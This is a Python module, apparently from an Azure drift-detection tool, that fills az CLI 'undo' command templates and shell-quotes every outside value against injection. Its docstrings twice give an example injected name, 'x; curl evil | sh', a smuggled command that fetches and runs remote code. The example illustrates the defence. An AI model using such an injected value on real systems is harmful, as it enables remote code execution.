"""Undo commands: a detector's `az` command template filled in for one server, safe to paste.

Every value comes from outside (names chosen by whoever made the change), so each becomes one
shell word: a rule named `x; curl evil | sh` stays one argument of the command someone pastes.
"""

from __future__ import annotations

import re
import shlex
import unicodedata
from collections.abc import Mapping

from drift.armid import ServerRef
from drift.model import Judgement


def shell_quote(value: str) -> str:
    """One shell word for `value`. A value with invisible or control characters (a rule named with a
    soft hyphen or a bidi control) is written as `$'...'` with `\\u` escapes: the command still names
    exactly that resource, and nothing in it is hidden from the person who pastes it (bash, zsh)."""
    if all(ch.isprintable() and unicodedata.category(ch) != "Cf" for ch in value):
        return shlex.quote(value)
    escaped = "".join(
        ch if ch.isprintable() and unicodedata.category(ch) != "Cf" and ch not in "\\'"
        else f"\\{ch}" if ch in "\\'" else f"\\u{ord(ch):04x}" if ord(ch) <= 0xFFFF else f"\\U{ord(ch):08x}"
        for ch in value)
    return f"$'{escaped}'"


# A template's slots: `{server}`, `{resource_group}`, `{server_id}` and `{target}` (one command per target);
# `<name>` a value the detector may know (left for a person to fill when it does not); and
# ` --option <name?>` an option given only when the value is known. One pass: a filled value is never
# read again as a slot.
_SLOT = re.compile(r"(?P<option> --[A-Za-z0-9-]+ <(?P<optional>[A-Za-z0-9-]+)\?>)|\{(?P<field>\w+)\}"
                   r"|<(?P<known>[A-Za-z0-9-]+)>")


def _fill(template: str, fields: Mapping[str, str], known: Mapping[str, str]) -> str:
    def slot(match: re.Match[str]) -> str:
        if match.group("option"):
            name = match.group("optional")
            return match.group("option").replace(f"<{name}?>", shell_quote(known[name])) if name in known else ""
        if match.group("field") is not None:
            name = match.group("field")
            if name in fields:
                return shell_quote(fields[name])
            return "<name>" if name == "target" else match.group(0)
        name = match.group("known")
        return shell_quote(known[name]) if name in known else match.group(0)

    return _SLOT.sub(slot, template)


def remediation(template: str, ref: ServerRef, targets: tuple[str, ...] = (),
                known: Mapping[str, str] | None = None) -> str:
    """The detector's undo command for this server, once per target (`{target}`) where it has any, with
    the `<placeholder>`s the detector knows (`known`) filled in.

    Every value comes from outside (names chosen by whoever made the change): each is shell-quoted,
    so a rule named `x; curl evil | sh` stays one argument of the command someone pastes.
    """
    fields = {"server": ref.name, "resource_group": ref.server.resource_group or "", "server_id": ref.server_id}
    if "{target}" not in template or not targets:
        return _fill(template, fields, known or {})
    return " ; ".join(_fill(template, {**fields, "target": t}, known or {}) for t in targets)


def undo_command(command: str, commands: Mapping[str, str], ref: ServerRef, judgement: Judgement) -> str:
    """The undo command of a judgement: one per `Undo` it carries, with the values the detector saw before;
    without any, the detector's `command` once per target."""
    if not judgement.undo:
        return remediation(command, ref, judgement.targets)
    return " ; ".join(remediation(commands.get(step.command, command), ref, (step.target,) if step.target else (),
                                  dict(step.values)) for step in judgement.undo)
